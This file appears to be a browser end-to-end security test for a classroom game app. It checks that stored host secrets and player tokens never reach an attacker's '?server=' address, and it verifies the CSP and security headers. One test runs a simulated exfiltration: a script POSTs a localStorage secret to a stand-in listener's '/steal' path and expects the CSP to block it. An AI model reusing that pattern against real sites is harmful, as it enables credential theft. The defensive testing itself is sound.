import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { DIST, launchBrowser, screenshot, startServer, watchErrors } from './harness';
import type { GameServer } from '../../server/src/createGameServer';

/**
 * Credentials stay with the page's own server, and the page lives happily
 * under its CSP:
 * - `/?host=CODE&server=http://elsewhere` and `/?play=CODE&server=…` do not
 *   send the stored host secret or player token anywhere but the page's own
 *   server (an HTTP listener stands in for "elsewhere" and records every
 *   request and upgrade it gets), and the CSP stops a direct attempt too;
 * - landing, join, host, player and solo screens run with no CSP violation;
 * - every response carries the security headers; hashed assets are
 *   precompressed and cached for a year, index.html revalidated; no source maps.
 */
let game: GameServer;
let url: string;
let browser: Browser;
let elsewhere: Server;
let elsewhereUrl: string;
const reached: string[] = [];
const errors: string[] = [];
const contexts: BrowserContext[] = [];

async function newPage(): Promise<Page> {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  contexts.push(ctx);
  return pageIn(ctx);
}

async function pageIn(ctx: BrowserContext): Promise<Page> {
  const page = await ctx.newPage();
  watchErrors(page, errors);
  await page.addInitScript(() => {
    const w = window as unknown as { cspViolations: string[] };
    w.cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return page;
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);

beforeAll(async () => {
  ({ server: game, url } = await startServer());
  browser = await launchBrowser();
  const record = (req: IncomingMessage) => reached.push(`${req.method} ${req.url} ${JSON.stringify(req.headers).slice(0, 200)}`);
  elsewhere = createServer((req, res) => {
    record(req);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'application/json' });
    res.end('{}');
  });
  elsewhere.on('upgrade', (req, socket) => {
    record(req);
    socket.destroy();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as { port: number }).port}`;
});

afterAll(async () => {
  for (const c of contexts) await c.close().catch(() => undefined);
  await browser?.close();
  await game?.close();
  await new Promise((resolve) => elsewhere?.close(resolve));
});

describe('credentials never leave the origin', () => {
  it('a ?server= link to another address gets neither the host secret nor the player token', async () => {
    const host = await newPage();
    await host.goto(`${url}/`);
    await host.getByRole('button', { name: 'Host a game' }).click();
    const codeBox = host.getByLabel('Join code');
    await expect.poll(async () => (await codeBox.textContent())?.trim().length ?? 0, { timeout: 20_000 }).toBe(6);
    const code = (await codeBox.textContent())!.trim();
    const secretStored = await host.evaluate(() => JSON.stringify(localStorage));
    expect(secretStored.length).toBeGreaterThan(10);

    const student = await newPage();
    await student.goto(`${url}/?join=${code}`);
    await student.getByLabel('Nickname').fill('Ada');
    await student.getByRole('button', { name: 'Join', exact: true }).click();
    await expect.poll(() => student.url(), { timeout: 15_000 }).toContain(`play=${code}`);

    // The links an attacker would send, opened where the secret and the token are stored.
    const lured = await pageIn(host.context());
    await lured.goto(`${url}/?host=${code}&server=${encodeURIComponent(elsewhereUrl)}`);
    await expect.poll(async () => (await lured.getByLabel('Join code').textContent())?.trim(), { timeout: 20_000 }).toBe(code);
    const luredStudent = await pageIn(student.context());
    await luredStudent.goto(`${url}/?play=${code}&server=${encodeURIComponent(elsewhereUrl)}`);
    await expect
      .poll(async () => (await luredStudent.locator('table[aria-label="Leaderboard"] tr.own').first().textContent()) ?? '', {
        timeout: 20_000,
      })
      .toContain('Ada');
    // Same for a ws:// spelling of the other address.
    const wsSpelling = await pageIn(host.context());
    await wsSpelling.goto(`${url}/?host=${code}&server=${encodeURIComponent(elsewhereUrl.replace('http', 'ws'))}`);
    await expect.poll(async () => (await wsSpelling.getByLabel('Join code').textContent())?.trim(), { timeout: 20_000 }).toBe(code);
    expect(reached).toEqual([]);
    // The host took their seat back through the page's own server, and the address bar does not keep the refused server.
    expect(wsSpelling.url()).not.toContain('server=');

    // A second lock: even a script on the page cannot reach the other address (CSP connect-src).
    const attempt = await wsSpelling.evaluate(async (target) => {
      try {
        await fetch(`${target}/steal`, { method: 'POST', body: localStorage.getItem(Object.keys(localStorage)[0] ?? '') ?? '' });
        return 'reached';
      } catch {
        return 'blocked';
      }
    }, elsewhereUrl);
    expect(attempt).toBe('blocked');
    expect((await violations(wsSpelling)).some((v) => v.startsWith('connect-src'))).toBe(true);
    expect(reached).toEqual([]);
    await screenshot(lured, 'security-host-lured');
  });
});

describe('content security policy and headers', () => {
  it('landing, join, host, player and solo screens run without a CSP violation or console error', async () => {
    errors.length = 0;
    const host = await newPage();
    await host.goto(`${url}/`);
    expect(await violations(host)).toEqual([]);
    await host.getByRole('button', { name: 'Host a game' }).click();
    const codeBox = host.getByLabel('Join code');
    await expect.poll(async () => (await codeBox.textContent())?.trim().length ?? 0, { timeout: 20_000 }).toBe(6);
    const code = (await codeBox.textContent())!.trim();
    // The terrain is drawn (Phaser, the terrain worker, the legend's gradient) and the QR code shown.
    await expect
      .poll(() => host.evaluate(() => document.getElementById('legend')?.childElementCount ?? 0), { timeout: 30_000 })
      .toBeGreaterThan(0);

    const student = await newPage();
    await student.goto(`${url}/?join=${code}`);
    await student.getByLabel('Nickname').fill('Bea');
    await student.getByRole('button', { name: 'Join', exact: true }).click();
    await expect.poll(() => student.url(), { timeout: 15_000 }).toContain(`play=${code}`);
    await expect
      .poll(() => student.evaluate(() => document.getElementById('legend')?.childElementCount ?? 0), { timeout: 30_000 })
      .toBeGreaterThan(0);

    const solo = await newPage();
    await solo.goto(`${url}/?solo`);
    await expect
      .poll(() => solo.evaluate(() => document.getElementById('legend')?.childElementCount ?? 0), { timeout: 30_000 })
      .toBeGreaterThan(0);
    // Let the solo racer run, so the loss chart (uPlot, fetched on first use) draws.
    await solo.waitForTimeout(1500);

    for (const page of [host, student, solo]) expect(await violations(page), page.url()).toEqual([]);
    expect(errors.filter((e) => !/favicon/.test(e))).toEqual([]);
    await screenshot(student, 'security-student-under-csp');
    await screenshot(solo, 'security-solo-under-csp');
  });

  it('every response carries the security headers; assets are precompressed and long-cached, index.html revalidated; no source maps', async () => {
    const page = await fetch(`${url}/?join=ABCDEF`, { headers: { 'accept-encoding': 'br, gzip' } });
    const html = await page.text();
    expect(page.headers.get('content-encoding')).toBe('br');
    expect(page.headers.get('cache-control')).toBe('no-cache');
    const csp = page.headers.get('content-security-policy') ?? '';
    for (const directive of ["default-src 'self'", "script-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'"])
      expect(csp).toContain(directive);
    expect(csp).not.toMatch(/'unsafe-inline'|'unsafe-eval'/); // 'wasm-unsafe-eval' allows WebAssembly only
    expect(page.headers.get('x-content-type-options')).toBe('nosniff');
    expect(page.headers.get('x-frame-options')).toBe('DENY');
    expect(page.headers.get('referrer-policy')).toBe('no-referrer');
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/); // no inline script

    const script = /src="(\/assets\/index-[^"]+\.js)"/.exec(html)![1];
    for (const [encoding, expected] of [
      ['br', 'br'],
      ['gzip', 'gzip'],
      ['identity', null],
    ] as const) {
      const asset = await fetch(`${url}${script}`, { headers: { 'accept-encoding': encoding } });
      expect(asset.headers.get('content-encoding')).toBe(expected);
      expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
      expect(asset.headers.get('x-content-type-options')).toBe('nosniff');
      await asset.arrayBuffer();
    }
    for (const path of ['/health', '/matchmake/create/race', '/api/nothing', '/no-such-file.js']) {
      const r = await fetch(`${url}${path}`);
      expect(r.headers.get('content-security-policy'), path).toBe(csp);
      expect(r.headers.get('x-content-type-options'), path).toBe('nosniff');
      await r.arrayBuffer();
    }

    const files = readdirSync(join(DIST, 'assets'));
    expect(files.filter((f) => f.endsWith('.map'))).toEqual([]);
    for (const f of files.filter((f) => f.endsWith('.js')))
      expect(readFileSync(join(DIST, 'assets', f), 'utf8')).not.toContain('sourceMappingURL');
  });
});
